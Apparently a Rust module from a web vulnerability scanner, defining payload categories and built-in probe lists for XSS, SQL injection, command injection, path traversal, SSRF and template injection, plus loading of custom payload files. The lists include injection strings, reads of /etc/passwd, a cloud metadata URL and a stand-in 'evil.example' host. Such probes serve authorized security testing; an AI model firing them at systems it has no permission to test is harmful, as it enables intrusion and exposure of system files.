use std::collections::{BTreeMap, HashSet};
use std::path::Path;

use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use crate::errors::ScanError;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PayloadCategory {
    Xss,
    Sqli,
    Rce,
    Lfi,
    Ssrf,
    Ssti,
    Default,
}

impl PayloadCategory {
    pub const ALL: [PayloadCategory; 7] = [
        PayloadCategory::Xss,
        PayloadCategory::Sqli,
        PayloadCategory::Rce,
        PayloadCategory::Lfi,
        PayloadCategory::Ssrf,
        PayloadCategory::Ssti,
        PayloadCategory::Default,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            PayloadCategory::Xss => "xss",
            PayloadCategory::Sqli => "sqli",
            PayloadCategory::Rce => "rce",
            PayloadCategory::Lfi => "lfi",
            PayloadCategory::Ssrf => "ssrf",
            PayloadCategory::Ssti => "ssti",
            PayloadCategory::Default => "default",
        }
    }

    /// Primary category hinted by a parameter name. Hints are checked in a
    /// fixed order and the first match wins.
    pub fn for_parameter(parameter: &str) -> Self {
        const HINTS: [(&[&str], PayloadCategory); 5] = [
            (&["id", "uid", "user"], PayloadCategory::Sqli),
            (&["file", "path", "dir"], PayloadCategory::Lfi),
            (&["cmd", "exec", "command"], PayloadCategory::Rce),
            (&["url", "link", "redirect"], PayloadCategory::Ssrf),
            (&["template", "tpl", "view"], PayloadCategory::Ssti),
        ];

        let name = parameter.to_ascii_lowercase();
        HINTS
            .iter()
            .find(|(hints, _)| hints.iter().any(|h| name.contains(h)))
            .map(|(_, category)| *category)
            .unwrap_or(PayloadCategory::Xss)
    }
}

impl std::fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

fn builtin(category: PayloadCategory) -> &'static [&'static str] {
    match category {
        PayloadCategory::Xss => &[
            "<script>alert(1)</script>",
            "\"><svg/onload=alert(1)>",
            "'><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "<details open ontoggle=alert(1)>",
        ],
        PayloadCategory::Sqli => &[
            "'",
            "\"",
            "' OR '1'='1",
            "1 OR 1=1",
            "1' AND SLEEP(3)-- -",
            "1;WAITFOR DELAY '0:0:3'--",
            "' UNION SELECT NULL-- -",
        ],
        PayloadCategory::Rce => &[
            ";id",
            "|id",
            "$(id)",
            "`id`",
            "&& whoami",
            ";sleep 3",
        ],
        PayloadCategory::Lfi => &[
            "../../../../etc/passwd",
            "....//....//....//etc/passwd",
            "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "php://filter/convert.base64-encode/resource=index.php",
        ],
        PayloadCategory::Ssrf => &[
            "http://127.0.0.1/",
            "http://localhost:22/",
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd",
            "//evil.example/",
        ],
        PayloadCategory::Ssti => &[
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{config}}",
        ],
        PayloadCategory::Default => &["'\"<>", "%00", "{{7*7}}", "../"],
    }
}

/// Payload lists per category. Starts from the built-in lists; a payload
/// directory may replace any of them.
#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    payloads: BTreeMap<PayloadCategory, Vec<String>>,
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        Self::builtin()
    }
}

impl PayloadCatalog {
    pub fn builtin() -> Self {
        let payloads = PayloadCategory::ALL
            .iter()
            .map(|c| (*c, builtin(*c).iter().map(|p| p.to_string()).collect()))
            .collect();
        Self { payloads }
    }

    /// Load `<category>.txt` files from `dir`; blank lines and `#` comments are
    /// skipped. Categories without a file keep their built-in payloads.
    pub async fn load_dir(dir: &Path) -> Result<Self, ScanError> {
        if !dir.is_dir() {
            return Err(ScanError::Config(format!("Payload directory not found: {}", dir.display())));
        }

        let mut catalog = Self::builtin();
        for category in PayloadCategory::ALL {
            let path = dir.join(format!("{}.txt", category));
            if !path.is_file() {
                debug!(category = %category, "No payload file, keeping built-in payloads");
                continue;
            }
            let content = tokio::fs::read_to_string(&path).await?;
            let loaded = parse_payload_file(&content);
            if loaded.is_empty() {
                warn!(path = %path.display(), "Payload file is empty, keeping built-in payloads");
                continue;
            }
            info!(category = %category, count = loaded.len(), "Loaded payloads");
            catalog.payloads.insert(category, loaded);
        }
        Ok(catalog)
    }

    pub fn from_payloads(payloads: BTreeMap<PayloadCategory, Vec<String>>) -> Self {
        Self { payloads }
    }

    pub fn category(&self, category: PayloadCategory) -> &[String] {
        self.payloads.get(&category).map(Vec::as_slice).unwrap_or(&[])
    }

    /// The hinted category's payloads followed by the default list,
    /// order preserved and duplicates removed.
    pub fn select_payloads(&self, parameter: &str) -> Vec<String> {
        let primary = PayloadCategory::for_parameter(parameter);
        let mut seen = HashSet::new();
        self.category(primary)
            .iter()
            .chain(self.category(PayloadCategory::Default))
            .filter(|p| seen.insert(p.as_str()))
            .cloned()
            .collect()
    }
}

fn parse_payload_file(content: &str) -> Vec<String> {
    content
        .lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
        .map(|line| line.trim().to_string())
        .collect()
}
